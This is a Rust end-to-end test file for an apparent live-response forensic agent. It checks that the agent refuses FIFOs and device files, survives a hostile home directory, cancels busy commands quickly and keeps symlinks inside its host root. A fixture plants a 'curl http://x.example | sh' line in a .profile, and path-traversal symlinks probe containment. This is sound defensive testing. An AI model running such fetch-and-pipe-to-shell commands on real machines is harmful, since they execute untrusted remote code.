//! Hostile hosts: files that would block or balloon a naive agent (FIFOs, devices, kernel
//! pseudo files, sparse giants), and cancels that must end a command promptly.

use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use e2e::fixture::{host_root, sparse, write};
use e2e::lr::{self, Cmd};
use kube::Client;
use kube::api::{Api, Patch, PatchParams};
use liveresponse_api::crd::{Command, CommandPhase, SessionPhase};

use crate::Env;

const T: Duration = Duration::from_secs(60);
/// What "fast" means for a refusal: the command's round trip through the operator, with
/// room for a loaded CI machine; a hang would go on until the command's timeout.
const FAST: Duration = Duration::from_secs(10);

fn mkfifo(root: &Path, rel: &str) -> Result<()> {
    let p = root.join(rel.trim_start_matches('/'));
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent)?;
    }
    let status = std::process::Command::new("mkfifo")
        .arg(&p)
        .status()
        .context("running mkfifo")?;
    ensure!(status.success(), "mkfifo {} failed", p.display());
    Ok(())
}

async fn session(client: &Client, ns: &str, name: &str, device: &str) -> Result<()> {
    lr::open_session(client, ns, name, device, "analyst-advanced", None).await?;
    lr::wait_session(client, ns, name, SessionPhase::Connected, T).await?;
    Ok(())
}

/// Runs `fileinfo PATH` in `session` and requires a quick Failed whose message contains
/// `expect`.
async fn refused(
    client: &Client,
    ns: &str,
    session: &str,
    name: &str,
    path: &str,
    expect: &str,
) -> Result<()> {
    let started = Instant::now();
    let c = Cmd::new(session, "fileinfo", &[path])
        .timeout(120)
        .run(client, ns, name)
        .await?;
    let took = started.elapsed();
    let error = lr::error(&c);
    println!(
        "fileinfo {path}: {:?} in {took:?}: {error:?}",
        lr::phase(&c)
    );
    ensure!(
        lr::phase(&c) == Some(CommandPhase::Failed),
        "fileinfo {path} ended {:?}: {error:?}",
        lr::phase(&c)
    );
    let message = error.map(|e| e.message).unwrap_or_default();
    ensure!(
        message.contains(expect),
        "fileinfo {path}: {message:?} does not say {expect:?}"
    );
    ensure!(took < FAST, "fileinfo {path} took {took:?}");
    Ok(())
}

/// fileinfo of a FIFO, of /proc/kmsg and of /dev/zero fail fast with a clear message.
///
/// The agent reads host paths below its `--host-root`, symbolic links included, so a
/// test root cannot reach the machine's /proc or /dev: a second agent of this test runs
/// with `--host-root /`, as one installed on a host does, for /proc/kmsg and /dev/zero.
pub async fn fileinfo_refuses_what_is_not_a_file(env: &'static Env) -> Result<()> {
    let ns = "lr-hostile-files";
    let root = host_root("hostile-files")?;
    mkfifo(&root, "/tmp/pipe")?;
    let s = &env.stack;
    s.tenant(ns, "")?;
    s.start_agent(ns, "fifo-host", &root, &[])?;
    s.start_agent(ns, "real-host", Path::new("/"), &[])?;
    s.wait_device(ns, "fifo-host", true, T)?;
    s.wait_device(ns, "real-host", true, T)?;
    let client = env.cluster.client("analyst-advanced").await?;

    session(&client, ns, "s", "fifo-host").await?;
    refused(
        &client,
        ns,
        "s",
        "fifo",
        "/tmp/pipe",
        "/tmp/pipe is a FIFO; not read",
    )
    .await?;
    lr::disconnect(&client, ns, "s").await?;

    let real = "s2";
    lr::open_session(&client, ns, real, "real-host", "analyst-advanced", None).await?;
    lr::wait_session(&client, ns, real, SessionPhase::Connected, T).await?;
    for (name, path, expect) in [
        (
            "zero",
            "/dev/zero",
            "/dev/zero is a character device; not read",
        ),
        (
            "kmsg",
            "/proc/kmsg",
            "/proc/kmsg is on proc, a kernel pseudo file system",
        ),
    ] {
        if !Path::new(path).exists() {
            println!("{path} does not exist on this machine; skipped");
            continue;
        }
        refused(&client, ns, real, name, path, expect).await?;
    }
    s.kill_agent(ns, "fifo-host");
    s.kill_agent(ns, "real-host");
    Ok(())
}

/// persistence over a home with a FIFO authorized_keys and a 30 GiB sparse .bashrc ends
/// Succeeded, naming both in its warnings, and still reports the rest of the home.
pub async fn persistence_survives_a_hostile_home(env: &'static Env) -> Result<()> {
    let ns = "lr-hostile-home";
    let root = host_root("hostile-home")?;
    write(
        &root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nmallory:x:1000:1000::/home/mallory:/bin/sh\n",
    )?;
    write(
        &root,
        "/home/mallory/.profile",
        "curl http://x.example | sh\n",
    )?;
    mkfifo(&root, "/home/mallory/.ssh/authorized_keys")?;
    sparse(&root, "/home/mallory/.bashrc", 30 << 30)?;
    let s = &env.stack;
    s.tenant(ns, "")?;
    s.start_agent(ns, "home-host", &root, &[])?;
    s.wait_device(ns, "home-host", true, T)?;
    let client = env.cluster.client("analyst-advanced").await?;
    session(&client, ns, "s", "home-host").await?;

    let started = Instant::now();
    let c = Cmd::new("s", "persistence", &[])
        .json()
        .timeout(120)
        .run(&client, ns, "p")
        .await?;
    let took = started.elapsed();
    lr::succeeded(&c)?;
    let warnings = lr::warnings(&c);
    println!("persistence in {took:?}, warnings: {warnings:?}");
    for expect in [
        "skipped /home/mallory/.ssh/authorized_keys is a FIFO; not read",
        "skipped /home/mallory/.bashrc is 30 GiB, more than the 4 MiB read of such files; not read",
    ] {
        ensure!(
            warnings.iter().any(|w| w == expect),
            "no warning {expect:?} in {warnings:?}"
        );
    }
    let records = lr::records(&c)?;
    ensure!(
        records
            .iter()
            .any(|r| r["location"] == "/home/mallory/.profile"),
        "the readable profile is missing: {records:?}"
    );
    ensure!(took < FAST * 3, "persistence took {took:?}");
    s.kill_agent(ns, "home-host");
    Ok(())
}

/// A cancel ends a busy command Cancelled in under 5 s, and the agent's status then shows
/// no worker left behind for it.
///
/// Since every read of host content is non-blocking and type-checked, nothing in the agent
/// blocks on a FIFO any more; a worker stuck in the kernel is covered by the agent's unit
/// test `cancel_ends_a_command_whose_worker_is_blocked`. Here the command hashes a 400 GiB
/// sparse file, the longest-running read a host can offer.
pub async fn cancel_ends_a_busy_command_within_5s(env: &'static Env) -> Result<()> {
    let ns = "lr-hostile-cancel";
    let root = host_root("hostile-cancel")?;
    sparse(&root, "/huge.img", 400 << 30)?;
    let s = &env.stack;
    s.tenant(ns, "")?;
    s.start_agent(ns, "busy-host", &root, &[])?;
    s.wait_device(ns, "busy-host", true, T)?;
    let client = env.cluster.client("analyst-advanced").await?;
    session(&client, ns, "s", "busy-host").await?;

    Cmd::new("s", "fileinfo", &["/huge.img"])
        .create(&client, ns, "hash")
        .await?;
    lr::wait_phase(&client, ns, "hash", T, |p| p == CommandPhase::Running).await?;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let api: Api<Command> = Api::namespaced(client.clone(), ns);
    let asked = Instant::now();
    api.patch(
        "hash",
        &PatchParams::default(),
        &Patch::Merge(serde_json::json!({"spec": {"cancel": true}})),
    )
    .await?;
    let c = lr::wait_final(&client, ns, "hash", Duration::from_secs(10)).await?;
    let took = asked.elapsed();
    println!("cancel took {took:?}");
    ensure!(
        lr::phase(&c) == Some(CommandPhase::Cancelled),
        "phase {:?}",
        lr::phase(&c)
    );
    ensure!(took < Duration::from_secs(5), "the cancel took {took:?}");
    let status = Cmd::new("s", "status", &[])
        .json()
        .run(&client, ns, "status")
        .await?;
    lr::succeeded(&status)?;
    ensure!(
        !lr::content(&status).contains("Stuck"),
        "a worker was left behind: {}",
        lr::content(&status)
    );
    s.kill_agent(ns, "busy-host");
    Ok(())
}

/// Links under the host root that point out of it, absolute (`/etc`) and by `..`
/// (`../../../../etc`), are never followed out of it by fileinfo, dir or findfile: they
/// lead to the root's own /etc, and a file only the machine's /etc has is not found.
pub async fn symlinks_never_leave_the_host_root(env: &'static Env) -> Result<()> {
    use sha2::{Digest, Sha256};
    let ns = "lr-hostile-links";
    let root = host_root("hostile-links")?;
    let inside = "root:x:0:0:inside the host root:/root:/bin/sh\n";
    write(&root, "/etc/passwd", inside)?;
    write(&root, "/data/readme", "x")?;
    std::os::unix::fs::symlink("/etc", root.join("data/abs"))?;
    std::os::unix::fs::symlink("../../../../../../../../etc", root.join("data/rel"))?;
    let s = &env.stack;
    s.tenant(ns, "")?;
    s.start_agent(ns, "links-host", &root, &[])?;
    s.wait_device(ns, "links-host", true, T)?;
    let client = env.cluster.client("analyst-advanced").await?;
    session(&client, ns, "s", "links-host").await?;
    let sha = hex::encode(Sha256::digest(inside.as_bytes()));

    for (i, link) in ["/data/abs", "/data/rel"].into_iter().enumerate() {
        let path = format!("{link}/passwd");
        let c = Cmd::new("s", "fileinfo", &[&path])
            .json()
            .run(&client, ns, &format!("info-{i}"))
            .await?;
        lr::succeeded(&c)?;
        let records = lr::records(&c)?;
        ensure!(
            records
                .first()
                .is_some_and(|r| r["sha256"] == sha.as_str() && r["path"] == "/etc/passwd"),
            "fileinfo {path} left the root: {records:?}"
        );
        // /etc/hostname exists on the machine, not in the root.
        let missing = format!("{link}/hostname");
        let c = Cmd::new("s", "fileinfo", &[&missing])
            .run(&client, ns, &format!("missing-{i}"))
            .await?;
        ensure!(
            lr::phase(&c) == Some(CommandPhase::Failed),
            "fileinfo {missing} found something: {:?}",
            lr::content(&c)
        );

        let c = Cmd::new("s", "dir", &[link])
            .json()
            .run(&client, ns, &format!("dir-{i}"))
            .await?;
        lr::succeeded(&c)?;
        let names: Vec<String> = lr::records(&c)?
            .iter()
            .filter_map(|r| r["name"].as_str().map(str::to_owned))
            .collect();
        ensure!(names == ["passwd"], "dir {link} listed {names:?}");

        let c = Cmd::new("s", "findfile", &["*", "-root", link])
            .json()
            .run(&client, ns, &format!("find-{i}"))
            .await?;
        lr::succeeded(&c)?;
        let paths: Vec<String> = lr::records(&c)?
            .iter()
            .filter_map(|r| r["path"].as_str().map(str::to_owned))
            .collect();
        ensure!(
            paths == ["/etc/passwd"],
            "findfile -root {link} found {paths:?}"
        );
    }
    s.kill_agent(ns, "links-host");
    Ok(())
}
